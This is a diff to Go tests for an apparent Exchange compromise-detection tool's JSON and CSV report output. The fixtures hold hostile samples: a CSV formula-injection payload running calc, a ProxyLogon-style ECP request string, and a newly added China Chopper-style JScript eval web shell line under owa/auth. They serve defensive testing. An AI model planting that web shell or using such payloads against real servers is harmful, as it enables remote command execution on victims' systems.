@@ -30,9 +30,9 @@ func sampleDoc() *finding.Document {
 		Finished:      time.Date(2026, 1, 1, 0, 0, 1, 0, time.UTC),
 		Roots:         []string{"samples/compromised"},
 		Hosts: []finding.HostSummary{{
-			Host: "ex01", WorstStage: finding.StageWrite, WorstSeverity: finding.Critical, Findings: 3,
-			Stages:     map[finding.Stage]int{finding.StageWrite: 1, finding.StageRecon: 1, finding.StageCleanup: 1},
-			Severities: map[finding.Severity]int{finding.Critical: 1, finding.Low: 1, finding.High: 1},
+			Host: "ex01", WorstStage: finding.StageWrite, WorstSeverity: finding.Critical, Findings: 4,
+			Stages:     map[finding.Stage]int{finding.StageWrite: 2, finding.StageRecon: 1, finding.StageCleanup: 1},
+			Severities: map[finding.Severity]int{finding.Critical: 1, finding.Low: 1, finding.High: 2},
 		}},
 		Inventory: []finding.Inventory{{Host: "ex01", Family: "httpproxy", Title: "Exchange HttpProxy logs", Files: 3, Bytes: 123456, Records: 900, First: t0.Add(-time.Hour), Last: t0.Add(time.Hour)}},
 		Findings: []finding.Finding{
@@ -40,6 +40,8 @@ func sampleDoc() *finding.Document {
 			{Advisory: adv, Time: t0, Host: "ex01", Evidence: finding.Evidence{Path: "D/Logging/HttpProxy/Ecp/HttpProxy_2021022719-1.LOG", Line: 12, Source: "httpproxy", Excerpt: "=cmd|' /C calc'!A0 \x1b[31mred", Fields: map[string]string{"client_ip": "167.99.168.251", "user_agent": "python-requests/2.25.1", "anchor_mailbox": "ServerInfo~a]@ex01:444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory#"}}},
 			{Advisory: finding.Advisory{ID: "EXH-EV-23", Title: "Security event log cleared", Severity: finding.High, Stage: finding.StageCleanup, Techniques: []string{"T1070.001"}, Rule: "0c2d3c1b-5f5e-4d1e-9a52-1c7a1f4b8d01", RuleFile: "pack:rules/ev23_security_log_cleared.yml"},
 				Time: t0.Add(time.Hour), Host: "ex01", Evidence: finding.Evidence{Path: "C/Windows/System32/winevt/Logs/Security.evtx", Record: 4711, Source: "evtx", Excerpt: "Channel=Security Provider=Microsoft-Windows-Eventlog EventID=1102 Computer=EX01.contoso.com SubjectUserName=EX01$", Fields: map[string]string{"channel": "Security", "event_id": "1102"}}},
+			{Advisory: finding.Advisory{ID: "EXH-YARA-01", Title: "China Chopper-style page: JScript eval of request input", Severity: finding.High, Stage: finding.StageWrite, Techniques: []string{"T1505.003"}, Rule: "pack:EXH_Chopper_JScript_Eval", RuleFile: "pack:rules/chopper.yar"},
+				Host: "ex01", Evidence: finding.Evidence{Path: "D/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/OutlookJP.aspx", Source: "file", SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", Size: 812, ModTime: t0, Excerpt: `<%eval(Request.Item["klk7890"],"unsafe");%>`, Fields: map[string]string{"place": "owa_auth"}}},
 		},
 		Errors: []finding.FileError{{Path: "C/inetpub/logs/LogFiles/W3SVC1/u_ex210227.log", Message: "not a text log (binary content)"}},
 	}
@@ -63,8 +65,8 @@ func TestJSONRequiredFields(t *testing.T) {
 		t.Fatal(err)
 	}
 	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
-	if len(lines) != 3 {
-		t.Fatalf("want 3 lines, got %d", len(lines))
+	if len(lines) != 4 {
+		t.Fatalf("want 4 lines, got %d", len(lines))
 	}
 	for _, l := range lines {
 		var m map[string]any
@@ -82,8 +84,18 @@ func TestJSONRequiredFields(t *testing.T) {
 				t.Errorf("evidence lacks %q", k)
 			}
 		}
-		if _, err := time.Parse(time.RFC3339, m["time"].(string)); err != nil {
-			t.Errorf("time not RFC 3339: %v", err)
+		switch tm := m["time"].(type) {
+		case string:
+			if _, err := time.Parse(time.RFC3339, tm); err != nil {
+				t.Errorf("time not RFC 3339: %v", err)
+			}
+		case nil:
+			// Unknown time (file evidence): null, never year 1.
+			if ev["source"] != "file" {
+				t.Errorf("null time on %v evidence", ev["source"])
+			}
+		default:
+			t.Errorf("time is %T", tm)
 		}
 	}
 }
@@ -97,7 +109,7 @@ func TestCSVDefusesFormulas(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(rows) != 4 || len(rows[0]) != len(CSVHeader) {
+	if len(rows) != 5 || len(rows[0]) != len(CSVHeader) {
 		t.Fatalf("got %d rows", len(rows))
 	}
 	if ex := rows[2][14]; !strings.HasPrefix(ex, "'=") {
